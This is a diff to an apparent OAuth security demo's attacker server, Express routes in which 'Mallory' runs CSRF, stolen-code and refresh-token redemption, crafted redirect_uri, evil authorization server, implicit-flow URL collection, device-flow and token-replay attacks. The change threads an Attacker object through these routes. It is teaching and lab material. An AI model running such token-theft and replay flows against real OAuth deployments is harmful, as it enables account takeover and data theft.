@@ -10,8 +10,10 @@
  */
 import { join } from 'node:path';
 import express, { type Express, type NextFunction, type Request, type Response } from 'express';
+import { createBackChannel } from '@oauth-demo/back-channel';
 import { securityHeaders } from '@oauth-demo/web';
 import {
+  type Attacker,
   callbackWithMallorysCode,
   craftedRedirectUri,
   passOnToRealServer,
@@ -44,6 +46,9 @@ function runOf(value: unknown): string | undefined {
 }
 
 export function createApp(config: AttackerConfig): AttackerApp {
+  // Her calls to the real services go over the same kind of back channel as theirs (axios, deadlines, no redirects).
+  const backChannel = createBackChannel({ timeoutMs: config.httpTimeoutMs, userAgent: 'free-photo-filters/1.0' });
+  const mallory: Attacker = { config, http: backChannel.http };
   const loot = new LootBox();
   const crafted = new CraftedRequests();
   /** Scenario 7: the refresh token she holds for each run (the stolen one, or what it rotated into). */
@@ -94,11 +99,11 @@ export function createApp(config: AttackerConfig): AttackerApp {
       res.status(404).render('message', { title: 'Nothing here', text: 'No such run.' });
       return;
     }
-    const callback = await callbackWithMallorysCode(config);
+    const callback = await callbackWithMallorysCode(mallory);
     loot.add(run, {
       scenario: 'csrf',
       success: true,
-      summary: 'Mallory got a code for her own Drive account and sent your browser to the printer’s callback with it.',
+      summary: 'She got a code for her own Drive account and sent your browser to the printer’s callback with it.',
       details: [callback.replace(/code=[^&]+/, 'code=…')],
     });
     res.setHeader('Cache-Control', 'no-store');
@@ -119,7 +124,7 @@ export function createApp(config: AttackerConfig): AttackerApp {
       code = null;
     }
     if (run && code) {
-      const result = await redeemStolenCode(config, code);
+      const result = await redeemStolenCode(mallory, code);
       loot.add(run, {
         scenario: 'pkce',
         ...result,
@@ -145,7 +150,7 @@ export function createApp(config: AttackerConfig): AttackerApp {
       res.status(404).render('message', { title: 'Nothing here', text: 'No such run.' });
       return;
     }
-    const redirectUri = craftedRedirectUri(config, run);
+    const redirectUri = craftedRedirectUri(mallory, run);
     const { code_challenge, state } = crafted.create(run, redirectUri);
     const url = new URL(
       `${config.auth.publicUrl}${req.query.endpoint === 'lab' ? '/lab/loose-redirect/authorize' : '/authorize'}`,
@@ -162,7 +167,7 @@ export function createApp(config: AttackerConfig): AttackerApp {
     loot.add(run, {
       scenario: 'redirect',
       success: false,
-      summary: 'Mallory showed you her “sign in with Photo Printer” link.',
+      summary: 'She showed you her “sign in with Photo Printer” link.',
       details: [`redirect_uri: ${redirectUri}`],
     });
     res.setHeader('Cache-Control', 'no-store');
@@ -178,7 +183,7 @@ export function createApp(config: AttackerConfig): AttackerApp {
       res.status(404).render('message', { title: 'Nothing here', text: 'Nothing to catch.' });
       return;
     }
-    const result = await redeemStolenCode(config, code, {
+    const result = await redeemStolenCode(mallory, code, {
       redirect_uri: request.redirect_uri,
       code_verifier: request.code_verifier,
     });
@@ -203,7 +208,7 @@ export function createApp(config: AttackerConfig): AttackerApp {
         summary: 'Evil AS received the printer’s request and sent your browser on to the real auth server with it.',
         details: [],
       });
-    res.redirect(303, passOnToRealServer(config, req.query));
+    res.redirect(303, passOnToRealServer(mallory, req.query));
   });
   app.post('/evil-as/token', express.urlencoded({ extended: false, limit: '10kb' }), async (req, res) => {
     res.setHeader('Cache-Control', 'no-store');
@@ -213,7 +218,7 @@ export function createApp(config: AttackerConfig): AttackerApp {
       res.status(400).json({ error: 'invalid_request' });
       return;
     }
-    const answer = await redeemAtRealServer(config, {
+    const answer = await redeemAtRealServer(mallory, {
       code: body.code,
       redirect_uri: body.redirect_uri,
       ...(typeof body.code_verifier === 'string' ? { code_verifier: body.code_verifier } : {}),
@@ -239,7 +244,7 @@ export function createApp(config: AttackerConfig): AttackerApp {
       return;
     }
     const endpoint = body.endpoint === 'lab' ? 'lab' : 'real';
-    const { redemption, next } = await useStolenRefreshToken(config, body.refresh_token, endpoint);
+    const { redemption, next } = await useStolenRefreshToken(mallory, body.refresh_token, endpoint);
     stolen.set(run, { refreshToken: next, endpoint });
     while (stolen.size > 500) stolen.delete(stolen.keys().next().value!);
     loot.add(run, {
@@ -256,7 +261,7 @@ export function createApp(config: AttackerConfig): AttackerApp {
       res.status(404).json({ error: 'nothing stolen' });
       return;
     }
-    const { redemption, next } = await useStolenRefreshToken(config, held.refreshToken, held.endpoint);
+    const { redemption, next } = await useStolenRefreshToken(mallory, held.refreshToken, held.endpoint);
     stolen.set(run, { ...held, refreshToken: next });
     loot.add(run, {
       scenario: 'refresh',
@@ -284,7 +289,7 @@ export function createApp(config: AttackerConfig): AttackerApp {
   app.get('/collect/:run', async (req, res) => {
     const run = runOf(req.params.run);
     if (run && typeof req.query.u === 'string') {
-      const result = await useLeakedAddress(config, req.query.u.slice(0, 4000));
+      const result = await useLeakedAddress(mallory, req.query.u.slice(0, 4000));
       loot.add(run, { scenario: 'implicit', ...result });
     }
     res.setHeader('Content-Type', 'image/svg+xml');
@@ -300,7 +305,7 @@ export function createApp(config: AttackerConfig): AttackerApp {
       res.status(404).render('message', { title: 'Nothing here', text: 'No such run.' });
       return;
     }
-    const flow = await startDeviceFlow(config);
+    const flow = await startDeviceFlow(mallory);
     loot.add(run, {
       scenario: 'device',
       success: false,
@@ -313,7 +318,7 @@ export function createApp(config: AttackerConfig): AttackerApp {
     const poll = () => {
       const timer = setTimeout(async () => {
         polls.delete(timer);
-        const result = await pollDeviceFlow(config, flow.device_code).catch((e: unknown) => ({
+        const result = await pollDeviceFlow(mallory, flow.device_code).catch((e: unknown) => ({
           success: false,
           summary: `Her kiosk could not poll: ${String(e)}`,
           details: [],
@@ -350,7 +355,7 @@ export function createApp(config: AttackerConfig): AttackerApp {
       res.status(401).set('WWW-Authenticate', 'Bearer realm="filters"').json({ error: 'invalid_token' });
       return;
     }
-    const result = await replayAtDrive(config, match[1]!, req.query.drive === 'lab' ? 'lab' : 'real');
+    const result = await replayAtDrive(mallory, match[1]!, req.query.drive === 'lab' ? 'lab' : 'real');
     if (run)
       loot.add(run, {
         scenario: 'audience',
@@ -375,6 +380,7 @@ export function createApp(config: AttackerConfig): AttackerApp {
     async close() {
       for (const timer of polls) clearTimeout(timer);
       polls.clear();
+      backChannel.close();
     },
   };
 }
